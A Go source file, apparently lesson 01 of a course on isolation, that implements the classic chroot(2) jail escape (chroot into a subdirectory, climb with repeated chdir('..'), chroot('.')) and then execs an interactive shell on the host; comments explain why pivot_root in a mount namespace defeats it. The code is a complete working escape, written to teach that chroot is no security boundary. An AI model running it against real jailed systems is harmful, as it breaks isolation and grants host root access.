// Command escape breaks out of a chroot(2) jail, the classic way, to show
// that chroot alone is no security boundary (lesson 01).
//
//	escape [CMD [ARGS...]]     (default: /bin/sh -i)
//
// The trick: chroot(2) changes the root but not the working directory, and
// the kernel only stops ".." at the process's root. So, as root inside a
// jail:
//
//  1. mkdir a directory and chroot(2) into it. The root is now below the
//     working directory, which is left outside the new root.
//  2. chdir("..") again and again: the working directory never passes the
//     current root (it is not above us), so it climbs to the real /.
//  3. chroot(".") makes that real / the root again, and CMD runs on the host.
//
// Under pivot_root in a mount namespace of its own, step 2 stops at the
// namespace's root, which is the jail: there is nothing above to reach.
package main

import (
	"fmt"
	"os"
	"syscall"
)

func main() {
	argv := os.Args[1:]
	if len(argv) == 0 {
		argv = []string{"/bin/sh", "-i"}
	}
	if err := escape(); err != nil {
		fmt.Fprintf(os.Stderr, "escape: error: %v\n", err)
		os.Exit(1)
	}
	err := syscall.Exec(argv[0], argv, os.Environ())
	fmt.Fprintf(os.Stderr, "escape: error: exec %s: %v\n", argv[0], err)
	os.Exit(127)
}

func escape() error {
	dir := ".escape"
	if err := os.Mkdir(dir, 0o700); err != nil && !os.IsExist(err) {
		return fmt.Errorf("mkdir %s: %w", dir, err)
	}
	if err := syscall.Chroot(dir); err != nil {
		return fmt.Errorf("chroot %s: %w (needs root)", dir, err)
	}
	// The working directory is still the jail's root, outside the new root:
	// the helper directory can go (best effort), the trick does not need it.
	os.Remove(dir)
	for i := 0; i < 1024; i++ {
		if err := syscall.Chdir(".."); err != nil {
			return fmt.Errorf("chdir ..: %w", err)
		}
	}
	if err := syscall.Chroot("."); err != nil {
		return fmt.Errorf("chroot .: %w", err)
	}
	return nil
}
